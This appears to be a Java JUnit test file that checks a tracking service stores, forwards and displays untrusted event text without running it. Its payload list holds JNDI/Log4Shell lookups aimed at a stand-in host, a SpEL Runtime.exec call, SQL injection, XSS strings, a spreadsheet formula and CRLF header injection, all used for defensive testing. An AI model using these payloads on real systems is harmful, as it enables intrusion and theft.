// SPDX-License-Identifier: Apache-2.0
package io.tracklayer.routes;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.tracklayer.core.json.StrictJson;
import java.io.File;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Text that some program somewhere would run stays text here, on every way it takes. */
class I10InertDataTest {
    @TempDir static Path folder;
    private static RunningShop shop;
    private static ForbiddenListener forbidden;

    @BeforeAll
    static void start() throws Exception {
        forbidden = ForbiddenListener.open();
        shop = RunningShop.start(folder);
    }

    @AfterAll
    static void stop() throws Exception {
        shop.close();
        forbidden.close();
    }

    /** FORBIDDEN is replaced by the address of the listener. */
    static Stream<String> texts() {
        return Stream.of(
                "${bean:intake}",
                "${bean:intake?method=receive}",
                "${exchangeProperty.CamelToEndpoint}",
                "${header.CamelHttpUri}",
                "${env:PATH}",
                "${file:secrets/meta}",
                "{{tracklayer}}",
                "{{env:HOME}}",
                "{{sys:java.home}}",
                "#{T(java.lang.Runtime).getRuntime().exec('id')}",
                "#class:java.net.URL",
                "${jndi:ldap://FORBIDDEN/a}",
                "${${lower:j}ndi:rmi://FORBIDDEN/a}",
                "http://FORBIDDEN/track",
                "'; DROP TABLE event; --",
                "x' OR '1'='1",
                "%s%n%x $1 \\1",
                "<script>document.title='pwned'</script>",
                "\"><img src=http://FORBIDDEN/i onerror=alert(1)>",
                "'-alert(1)-'",
                "</textarea></code><svg onload=alert(1)>",
                "javascript:alert(1)",
                "=HYPERLINK(\"http://FORBIDDEN/\")",
                "line\r\nSet-Cookie: a=b\u001b[31m");
    }

    @ParameterizedTest
    @MethodSource("texts")
    void aTextIsKeptAndSentLetterByLetterAndShownWithoutEffect(String pattern) throws Exception {
        String text = pattern.replace("FORBIDDEN", forbidden.authority());
        String eventId = RunningShop.freshId();
        Web.Answer answer = collect(event(eventId, text));
        assertEquals(200, answer.status(), answer.text());

        Map<?, ?> sent = shop.awaitSent(eventId);
        Map<?, ?> data = (Map<?, ?>) tree(sent.get("body").toString()).get("data");
        Map<String, Object> whole =
                shop.web().json("/api/v1/events/" + shop.awaitEvent(eventId).get("seq"));
        String page = page("/events/" + whole.get("seq"));
        assertAll(
                () -> assertEquals(Map.of("note", text), data.get("properties")),
                () -> assertEquals("/webhook/warehouse", sent.get("path")),
                () -> assertEquals(Map.of("note", text), properties(whole)),
                () -> assertTrue(page.contains(eventId), page),
                () -> assertFalse(page.contains("<script>document"), page),
                () -> assertFalse(page.contains("<img"), page),
                // the bar above has an icon of ours
                () -> assertFalse(page.substring(page.indexOf("<main")).contains("<svg"), page),
                () -> assertFalse(page.contains("href=\"javascript"), page));
        forbidden.assertNobodyElseCame();
    }

    @Test
    void textsInUserAgentEventNameAndIdsAreJustAsInert() throws Exception {
        String canary = "<script>document.title='pwned'</script>${bean:intake}";
        Map<String, Object> event = event(canary, canary);
        event.put("event", canary);
        event.put("order_id", canary);
        Web.Answer answer = collect(event, Map.of("User-Agent", canary, "Referer", canary));
        assertEquals(200, answer.status(), answer.text());
        Object seq = shop.awaitEvent(canary).get("seq");
        for (String path : List.of("/events", "/deliveries", "/api-logs", "/events/" + seq)) {
            assertFalse(page(path).contains("<script>document"), path);
        }
        assertTrue(page("/events/" + seq).contains("&lt;script&gt;document"), "not shown at all");
    }

    @Test
    void whatAStrangerSentIsEscapedOnThePageOfRefusedRequestsToo() {
        String canary = "<script>document.title='pwned'</script>";
        List<Map<?, ?>> before = shop.requests("refused");
        shop.web()
                .post(
                        "/collect?k=wrong",
                        canary.getBytes(StandardCharsets.UTF_8),
                        Map.of("User-Agent", canary));
        shop.awaitRequest("refused", "unknown_write_key", before);
        String page = page("/events?show=requests");
        assertTrue(page.contains("&lt;script&gt;document"), page);
        assertFalse(page.contains("<script>document"), page);
    }

    @Test
    void aFilterIsShownBackAsText() {
        String page = page("/events?key=%22%3E%3Cscript%3Ealert(1)%3C/script%3E");
        assertTrue(page.contains("&lt;script&gt;alert"), page);
        assertFalse(page.contains("<script>alert"), page);
    }

    @Test
    void aRealBrowserRunsNothingAndAsksNobody(@TempDir Path profile) throws Exception {
        Optional<String> chromium = onPath("chromium");
        assumeTrue(chromium.isPresent(), "there is no chromium on the PATH");
        String text =
                "<script>document.title='pwned'</script><img src=http://%s/i onerror=\"document.title='pwned'\">"
                        .formatted(forbidden.authority());
        String eventId = RunningShop.freshId();
        collect(event(eventId, text));
        shop.awaitSent(eventId);
        Object seq = shop.awaitEvent(eventId).get("seq");
        String shown = shownBy(chromium.get(), profile, "/events/" + seq);
        assertTrue(shown.contains(eventId), shown);
        assertFalse(shown.contains("<title>pwned"), shown);
        assertFalse(shown.contains("<script>document"), shown);
        forbidden.assertNobodyElseCame();
    }

    private static Map<String, Object> event(String eventId, String text) {
        Map<String, Object> event = new LinkedHashMap<>();
        event.put("event", "page_viewed");
        event.put("event_id", eventId);
        event.put("page", Map.of("url", "https://shop.example/", "title", text));
        event.put("properties", Map.of("note", text));
        return event;
    }

    private static Web.Answer collect(Map<String, Object> event) {
        return collect(event, Map.of());
    }

    private static Web.Answer collect(Map<String, Object> event, Map<String, String> headers) {
        return shop.web().post("/collect?k=" + Shop.BROWSER_KEY, StrictJson.write(event), headers);
    }

    private static String page(String path) {
        Web.Answer answer = shop.web().get(path);
        assertEquals(200, answer.status(), path);
        return answer.text();
    }

    private static Object properties(Map<String, Object> whole) {
        return ((Map<?, ?>) whole.get("event")).get("properties");
    }

    private static Map<?, ?> tree(String json) throws Exception {
        return (Map<?, ?>) StrictJson.read(json.getBytes(StandardCharsets.UTF_8));
    }

    private static Optional<String> onPath(String program) {
        return Stream.of(System.getenv("PATH").split(File.pathSeparator))
                .map(folder -> Path.of(folder, program))
                .filter(Files::isExecutable)
                .map(Path::toString)
                .findFirst();
    }

    private static String shownBy(String chromium, Path profile, String path)
            throws IOException, InterruptedException {
        Path out = profile.resolve("dom.html");
        Process browser =
                new ProcessBuilder(
                                chromium,
                                "--headless",
                                "--no-sandbox",
                                "--disable-gpu",
                                "--disable-dev-shm-usage",
                                "--no-proxy-server",
                                "--user-data-dir=" + profile.resolve("profile"),
                                "--dump-dom",
                                shop.base().resolve(path).toString())
                        .redirectOutput(out.toFile())
                        .redirectError(ProcessBuilder.Redirect.DISCARD)
                        .start();
        if (!browser.waitFor(Web.PATIENCE.toSeconds(), TimeUnit.SECONDS)) {
            browser.destroyForcibly().waitFor();
        }
        return Files.readString(out);
    }
}
